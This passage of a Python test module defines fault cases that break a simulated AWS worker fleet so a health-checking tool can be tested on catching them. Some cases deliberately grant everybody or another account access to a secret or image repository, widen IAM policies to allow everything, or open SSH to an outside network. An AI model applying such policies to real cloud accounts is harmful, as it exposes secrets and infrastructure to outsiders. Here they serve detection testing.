        "the secret was rotated since instances booted",
        "secret-rotated",
        rotated,
        Inputs(SHORT_WARMUP),
        finish=lambda f: f.finish_refresh(),
        slow=True,
    )
    yield Fault(
        "the repository lacks the image", "repository-image", no_image, manual="the image's own pipeline pushes it"
    )
    yield Fault(
        "there is no repository", "repository-image", no_repository, manual="the image's own pipeline pushes it"
    )
    yield Fault(
        "the log group was deleted", "log-group", lambda f: f.client("logs").delete_log_group(logGroupName=LOGS)
    )
    for description, change in (
        ("events are kept for a week", lambda f: f.client("logs").put_retention_policy(**LOG_GROUP, retentionInDays=7)),
        ("events are kept for ever", lambda f: f.client("logs").delete_retention_policy(**LOG_GROUP)),
    ):
        yield Fault(description, "log-group-retention", change, slow="ever" in description)

    def statement(principal: Any, *actions: str, **more: Any) -> dict[str, Any]:
        return {"Effect": "Allow", "Principal": principal, "Action": list(actions), **more}

    def secret_policy(*statements: dict[str, Any]) -> Callable[[HealthyFleet], Any]:
        text = json.dumps({"Version": "2012-10-17", "Statement": statements})
        return secret("put_resource_policy", ResourcePolicy=text)

    def repository_policy(*statements: dict[str, Any]) -> Callable[[HealthyFleet], Any]:
        text = json.dumps({"Version": "2012-10-17", "Statement": statements})
        return lambda f: f.client("ecr").set_repository_policy(repositoryName=REPOSITORY, policyText=text)

    stranger, own = {"AWS": f"arn:aws:iam::{STRANGER}:root"}, {"AWS": "arn:aws:iam::123456789012:role/build"}
    read = ("secretsmanager:GetSecretValue",)
    encrypted = {"Condition": {"Bool": {"aws:SecureTransport": "true"}}}
    for description, statements in (
        ("another account may read the secret", [statement(stranger, *read, Resource="*")]),
        ("everybody may read the secret", [statement("*", *read, Resource="*", **encrypted)]),
        (
            "this account's role and another account's may read the secret",
            [
                statement(own, *read, Resource="*"),
                statement({"AWS": f"arn:aws:iam::{STRANGER}:role/reader"}, *read, Resource="*"),
            ],
        ),
    ):
        yield Fault(description, "secret-policy", secret_policy(*statements), slow=len(statements) == 1)
    pull = ("ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer")
    push = ("ecr:PutImage", "ecr:UploadLayerPart", "ecr:InitiateLayerUpload", "ecr:CompleteLayerUpload")
    for description, severity, statements in (
        ("everybody may pull the worker's image", "error", [statement("*", *pull, **encrypted)]),
        ("another account may pull the worker's image", "warning", [statement(stranger, *pull)]),
        ("another account may push workers' images", "error", [statement({"AWS": STRANGER}, *pull, *push)]),
        (
            "all accounts but one may do everything",
            "error",
            [{"Effect": "Allow", "NotPrincipal": stranger, "Action": "ecr:*"}],
        ),
        (
            "this account's role may push, and another account pull",
            "warning",
            [statement(own, *push), statement(stranger, *pull)],
        ),
    ):
        yield Fault(
            description,
            "repository-policy",
            repository_policy(*statements),
            severity=severity,
            slow=len(statements) == 1,
        )
    yield Fault("the log group receives nothing any more", "log-group-receiving", inputs=later(7200), manual=ON_A_HOST)
    yield Fault(
        "the log group has never received anything", "log-group-receiving", no_events, later(7200), manual=ON_A_HOST
    )


def _instances() -> Iterator[Fault]:
    no_replacement = {"fleet_suspended_processes": ["AZRebalance", "ReplaceUnhealthy"]}

    def suspend_replacement(fleet: HealthyFleet) -> Any:
        return fleet.client("autoscaling").suspend_processes(
            AutoScalingGroupName=GROUP, ScalingProcesses=["ReplaceUnhealthy"]
        )

    def unhealthy(fleet: HealthyFleet) -> None:
        suspend_replacement(fleet)
        fleet.client("autoscaling").set_instance_health(
            InstanceId=fleet.in_service()[0], HealthStatus="Unhealthy", ShouldRespectGracePeriod=False
        )

    def stopped(fleet: HealthyFleet) -> None:
        suspend_replacement(fleet)
        fleet.client("ec2").stop_instances(InstanceIds=fleet.in_service()[:1])

    def old_version(fleet: HealthyFleet) -> None:
        fleet.version(lambda data: None)
        fleet.set_version("2")

    def retained_without_agent(fleet: HealthyFleet) -> None:
        fleet.add_unmanaged()
        fleet.update(InstanceLifecyclePolicy={"RetentionTriggers": {"TerminateHookAbandon": "retain"}})

    def protect(fleet: HealthyFleet) -> None:
        fleet.client("autoscaling").set_instance_protection(
            AutoScalingGroupName=GROUP, InstanceIds=fleet.in_service()[:1], ProtectedFromScaleIn=True
        )

    yield Fault(
        "an instance is unhealthy and not replaced",
        "instances-healthy",
        unhealthy,
        Inputs(no_replacement),
        manual=ON_A_HOST,
    )
    yield Fault(
        "an instance in service is stopped",
        "instances-ec2",
        stopped,
        Inputs(no_replacement),
        manual="the group replaces it, unless that is suspended",
    )
    yield Fault(
        "no instance is in service or launching for more than a day",
        "instances-serving",
        no_instances,
        later(90000),
        manual="the cause of the failed launches decides",
    )
    yield Fault(
        "an instance has no agent, and is protected from scale-in",
        "instances-agent",
        HealthyFleet.add_unmanaged,
        manual="a worker that nothing drains has to be idle first",
    )
    yield Fault(
        "an instance has no agent, and a scale-in may end it",
        "instances-agent",
        lambda f: f.add_unmanaged(protected=False),
        remaining=NO_AGENT,
        severity="error",
    )
    yield Fault(
        "an instance has no agent, and would be retained",
        "instances-agent",
        retained_without_agent,
        remaining=NO_AGENT,
        severity="error",
        slow=True,
    )
    yield Fault(
        "instances are of an old version",
        "instances-current",
        old_version,
        playbook=True,
    )
    yield Fault(
        "a launch does not finish",
        "instances-pending",
        pending_launch,
        later(1200),
        manual=ON_A_HOST,
    )
    yield Fault("an instance was given up while it booted", "boots", given_up_boot, manual=ON_A_HOST)
    yield Fault("a drain does not finish", "instances-terminating", pending_drain, later(3000))
    yield Fault("a drain lasts longer than usual", "instances-draining", pending_drain, later(1200))
    yield Fault(
        "a draining worker sends no heartbeats",
        "instances-draining",
        pending_drain,
        Inputs({}, later=400, registry=silent_drains),
        severity="error",
        slow=True,
    )
    yield Fault("an instance is retained: its agent abandoned the hook", "instances-retained", retained, playbook=True)
    yield Fault(
        "an instance is retained beyond the limit",
        "instances-retained",
        many_retained,
        severity="error",
    )
    yield Fault("a busy worker is not protected", "instances-shielded", inputs=first_row(job_id=JOB))
    yield Fault("an idle worker is protected", "instances-idle-shielded", protect, registry(without_jobs))


ANSWERED = "it waits for agents, which simulated instances do not have (test_fleet_commands.py runs it)"
OTHER_DIGEST = f"sha256:{'0f' * 32}"


def told(wish: str, answer: str = "") -> Callable[[HealthyFleet], None]:
    """One instance was told that, and has answered that."""

    def tell(fleet: HealthyFleet) -> None:
        first = fleet.in_service()[0]
        fleet.tag(first, WANT, wish)
        if answer:
            fleet.tag(first, DID, answer)

    return tell


def pause(fleet: HealthyFleet) -> None:
    """As pause.yml leaves a fleet."""
    fleet.client("autoscaling").suspend_processes(AutoScalingGroupName=GROUP, ScalingProcesses=["Launch"])
    fleet.tag_group(WANT, "hold@0a1b2c3d")
    for instance in fleet.in_service():
        fleet.tag(instance, WANT, "hold@0a1b2c3d")
        fleet.tag(instance, DID, "hold@0a1b2c3d done")


def _commands() -> Iterator[Fault]:
    yield Fault("the fleet is paused", "fleet-paused", pause, manual=ANSWERED)
    yield Fault("one instance is held", "instances-held", told("hold@0a1b2c3d", "hold@0a1b2c3d done"), manual=ANSWERED)
    yield Fault(
        "a renewal found its worker held",
        "instances-held",
        told("renew@0a1b2c3d", "renew@0a1b2c3d done held: its worker starts with the next resume"),
        manual=ANSWERED,
    )
    yield Fault(
        "a renewal was interrupted",
        "command-ended",
        lambda fleet: fleet.tag_group(COMMAND, "renew@0a1b2c3d", propagate=False),
        manual=ANSWERED,
    )
    yield Fault(
        "an agent has not answered",
        "wishes-answered",
        told("renew@0a1b2c3d", "hold@ffffffff done"),
        manual="the agent has to run",
    )
    yield Fault(
        "a renewal has failed",
        "wishes-fulfilled",
        told("renew@0a1b2c3d", "renew@0a1b2c3d failed the secret has no key GH_SERVICE_SECRET"),
        manual=ANSWERED,
    )
    yield Fault(
        "a host has another released image than new instances get",
        "instances-image",
        told(f"release={OTHER_DIGEST}@0a1b2c3d", "release@0a1b2c3d done"),
        manual=ANSWERED,
    )


def _outside() -> Iterator[Fault]:
    def detach(fleet: HealthyFleet, *, replace: bool = True) -> str:
        first = fleet.in_service()[0]
        fleet.client("autoscaling").detach_instances(
            AutoScalingGroupName=GROUP, InstanceIds=[first], ShouldDecrementDesiredCapacity=not replace
        )
        return first

    def by_hand(fleet: HealthyFleet) -> None:
        made = fleet.client("ec2").run_instances(
            MinCount=1,
            MaxCount=1,
            LaunchTemplate={"LaunchTemplateName": TEMPLATE},
            SubnetId=fleet.group()["VPCZoneIdentifier"].split(",")[0],
        )["Instances"][0]["InstanceId"]
        wait_until(lambda: fleet.instance_state(made) == "running")

    def stopped(fleet: HealthyFleet) -> None:
        fleet.client("ec2").stop_instances(InstanceIds=[detach(fleet)])

    # An attached instance has no launch template of its own (localcloud's reading of AttachInstances).
    yield Fault("an instance was detached and replaced", "instances-outside", detach, remaining=REPLACE)
    yield Fault(
        "an instance was detached, and the fleet is smaller",
        "instances-outside",
        lambda f: detach(f, replace=False),
        remaining=REPLACE,
        slow=True,
    )
    yield Fault("an instance was launched by hand", "instances-outside", by_hand, remaining=REPLACE, slow=True)
    yield Fault(
        "a detached instance is stopped", "instances-outside", stopped, manual="only a running instance can be attached"
    )


def _valet() -> Iterator[Fault]:
    def user(*calls: Callable[[Any], Any], policy: bool = True) -> Callable[[HealthyFleet], Any]:
        def change(fleet: HealthyFleet) -> None:
            iam = fleet.client("iam")
            iam.create_user(UserName=USER, Tags=[{"Key": "Project", "Value": "wekruit"}, MARK])
            if policy:
                iam.attach_user_policy(UserName=USER, PolicyArn=VALET_POLICY_ARN)
            for call in calls:
                call(iam)

        return change

    def valet(description: str, check: str, change: Callable[[HealthyFleet], Any], **more: Any) -> Fault:
        return Fault(description, check, change, with_variables(fleet_valet_user_name=USER), slow=True, **more)

    def join(iam: Any) -> None:
        iam.create_group(GroupName="developers")
        iam.add_user_to_group(GroupName="developers", UserName=USER)

    def inline(iam: Any) -> None:
        iam.put_user_policy(UserName=USER, PolicyName="more", PolicyDocument=json.dumps(ANYTHING))

    def attach(iam: Any) -> None:
        iam.attach_user_policy(UserName=USER, PolicyArn=f"arn:aws:iam::aws:policy/{SSM}")

    def create_keys(iam: Any) -> None:
        for _ in range(2):
            iam.create_access_key(UserName=USER)

    yield valet("VALET's user was deleted", "valet-user", lambda f: None)
    yield valet("VALET's user lacks VALET's policy", "valet-user", user(policy=False))
    yield valet("VALET's user has an inline policy", "valet-rights", user(inline))
    yield valet("VALET's user has another managed policy", "valet-rights", user(attach))
    yield valet("VALET's user is in a group", "valet-rights", user(join))
    yield valet("VALET's user has too many rights of each kind", "valet-rights", user(inline, attach, join))
    yield valet("VALET's user has two active keys", "valet-keys", user(create_keys), manual=A_CHOICE)


def _registry() -> Iterator[Fault]:
    def row(description: str, check: str, inputs: Inputs, manual: str = THE_WORKERS) -> Fault:
        return Fault(description, check, inputs=inputs, manual=manual)

    def twice(there: tuple[WorkerRow, ...]) -> tuple[WorkerRow, ...]:
        return tuple(replace(r, job_id=JOB) for r in there)

    def protect_all(fleet: HealthyFleet) -> None:
        fleet.client("autoscaling").set_instance_protection(
            AutoScalingGroupName=GROUP, InstanceIds=fleet.in_service(), ProtectedFromScaleIn=True
        )

    down = Registry(False, "Nobody answers at db.example:5432.", (), (), may_write=None)
    yield row("the registry cannot be read", "registry-reachable", registry(lambda r: down), THE_DATABASE)
    yield row(
        "a row violates the schema",
        "registry-schema",
        registry(lambda r: replace(r, broken=("worker 'x': status is 'busy', not one of active, draining, offline",))),
    )
    yield row(
        "the registry's user may write",
        "registry-read-only",
        registry(lambda r: replace(r, may_write=True)),
        THE_DATABASE,
    )
    yield Fault(
        "an instance in service has no worker",
        "registry-registered",
        inputs=Inputs({}, later=900, registry=lambda r: replace(r, rows=r.rows[1:])),
        manual=THE_WORKERS,
    )
    yield Fault(
        "an instance's worker is offline",
        "registry-registered",
        inputs=Inputs(
            {}, later=900, registry=lambda r: replace(r, rows=(replace(r.rows[0], status="offline"), *r.rows[1:]))
        ),
        manual=THE_WORKERS,
    )
    yield row("a worker sends no heartbeats", "registry-beating", first_row(heartbeat_age=301.0))
    yield row(
        "a row has no instance in the group",
        "registry-orphans",
        rows(lambda r: (*r, worker("i-0123456789abcdef0", heartbeat_age=9000.0))),
    )
    yield row(
        "a row names no instance",
        "registry-orphans",
        rows(lambda r: (*r, replace(worker("i-0123456789abcdef0"), instance_id=None))),
    )
    yield Fault("two workers have one job", "registry-jobs", protect_all, rows(twice), manual=THE_WORKERS)
    yield row("a worker has no address", "registry-address", first_row(ip=None))
    yield row("a worker is draining and its instance is in service", "registry-status", first_row(status="draining"))


def _hosts() -> Iterator[Fault]:
    lacks = doctor_finding("secret", "the secret lacks GH_API_KEY")
    yield Fault("a host cannot be checked", "host-asked", inputs=first_host(problem="no route to it"), manual=ON_A_HOST)
    yield Fault(
        "a host's answer is not the doctor's", "host-asked", inputs=first_host({"id": "secret"}), manual=ON_A_HOST
    )
    yield Fault(
        "the secret lacks a key",
        "host-secret",
        inputs=first_host(lacks, doctor_finding("docker")),
        manual="the secret's value is the operator's",
        severity="error",
    )
    yield Fault(
        "a host has not pulled the worker's image",
        "host-image",
        inputs=first_host(
            doctor_finding("secret"), doctor_finding("docker"), doctor_finding("image", "it is not there", "warning")
        ),
        manual=ON_A_HOST,
        severity="warning",
    )
    for check, severity, problem in (
        ("guard", "error", "the worker runs without the drain guard: WorkerLauncher has no releaseClaimedJobs"),
        ("workers", "error", "two workers run on this host: ghosthands-worker-1, gh-worker"),
        ("dispatch_mode", "warning", "JOB_DISPATCH_MODE is legacy: two workers may claim one job"),
    ):
        yield Fault(
            f"a host's {check.replace('_', ' ')} is not right",
            f"host-{check.replace('_', '-')}",
            inputs=first_host(doctor_finding("secret"), doctor_finding(check, problem, severity)),
            manual=ON_A_HOST,
            severity=severity,
        )


def _drift() -> Iterator[Fault]:
    """What no check looks at, and site.yml would change."""

    def drift(description: str, section: str, apply: Callable[[HealthyFleet], Any], **more: Any) -> Fault:
        return Fault(description, f"drift-{section}", apply, **more)

    def iam(fleet: HealthyFleet) -> Any:
        return fleet.client("iam")

    def template(description: str, change: Callable[[dict[str, Any]], Any], **more: Any) -> Fault:
        return drift(description, "launch-template", lambda f: f.relaunch_with(change), **more)

    other = {"Key": "Project", "Value": "other"}
    group_tag = {**other, "ResourceId": GROUP, "ResourceType": "auto-scaling-group", "PropagateAtLaunch": True}
    repository = {"repositoryName": REPOSITORY}
    yield drift(
        "the repository's images cannot be overwritten",
        "foundation",
        lambda f: f.client("ecr").put_image_tag_mutability(**repository, imageTagMutability="IMMUTABLE"),
    )
    yield drift(
        "the repository's images are not scanned",
        "foundation",
        lambda f: f.client("ecr").put_image_scanning_configuration(
            **repository, imageScanningConfiguration={"scanOnPush": False}
        ),
        slow=True,
    )
    yield drift(
        "the repository keeps every image",
        "foundation",
        lambda f: f.client("ecr").delete_lifecycle_policy(**repository),
        slow=True,
    )
    yield drift(
        "the role's tag has another value",
        "iam",
        lambda f: iam(f).tag_role(RoleName=ROLE, Tags=[other]),
        severity="warning",
        slow=True,
    )
    yield drift(
        "the role's policy allows an action more",
        "iam",
        lambda f: f.change_role_policy(
            lambda statements: statements.append({"Effect": "Allow", "Action": "s3:*", "Resource": "*"})
        ),
        playbook=True,
    )
    yield drift(
        "a port is open to another network",
        "security-group",
        open_to({"IpRanges": [{"CidrIp": "198.51.100.0/24"}]}, ports=(22, 22)),
    )
    yield drift(
        "the security group's tag has another value",
        "security-group",
        lambda f: f.tag(f.security_group()["GroupId"], "Project", "other"),
        severity="warning",
        slow=True,
    )
    yield template("instances are larger", lambda data: data.update(InstanceType="t3.large"))
    yield template(
        "the volume is smaller", lambda data: data["BlockDeviceMappings"][0]["Ebs"].update(VolumeSize=30), slow=True
    )
    yield template(
        "the metadata service is farther away",
        lambda data: data["MetadataOptions"].update(HttpPutResponseHopLimit=64),
        slow=True,
    )
    yield template("instances have a foreign parameter", lambda data: data.update(EbsOptimized=True), slow=True)
    yield template(
        "instances have no public address",
        lambda data: data["NetworkInterfaces"][0].update(AssociatePublicIpAddress=False),
        slow=True,
    )
    yield template(
        "agents have another drain limit",
        lambda data: data.update(
            UserData=base64.b64encode(
                base64.b64decode(data["UserData"]).replace(b"DRAIN_LIMIT_SECONDS=2100", b"DRAIN_LIMIT_SECONDS=60")
            ).decode()
        ),
        slow=True,
    )
    yield drift(
        "the group's tag has another value",
        "autoscaling-group",
        lambda f: f.client("autoscaling").create_or_update_tags(Tags=[group_tag]),
        severity="warning",
    )
    yield drift(
        "somebody made another version of the template",
        "launch-template",
        lambda f: f.version(lambda data: data.update(InstanceType="m5.24xlarge"), default=False),
        slow=True,
    )

    def valet_may_do_anything(fleet: HealthyFleet) -> None:
        iam(fleet).create_policy_version(
            PolicyArn=VALET_POLICY_ARN, PolicyDocument=json.dumps(ANYTHING), SetAsDefault=True
        )

    yield drift("VALET's policy allows everything", "valet", valet_may_do_anything)
    yield drift(
        "VALET's policy was deleted", "valet", lambda f: iam(f).delete_policy(PolicyArn=VALET_POLICY_ARN), slow=True
    )


FAULTS: tuple[Fault, ...] = tuple(
    fault
    for part in (
        _account,
        _images,
        _templates,
        _metadata,
        _group,
        _hooks,
        _identity,
        _ports,
        _agents,
        _environment,
        _instances,
        _commands,
        _outside,
        _valet,
        _registry,
        _hosts,
        _drift,
    )
    for fault in part()
)
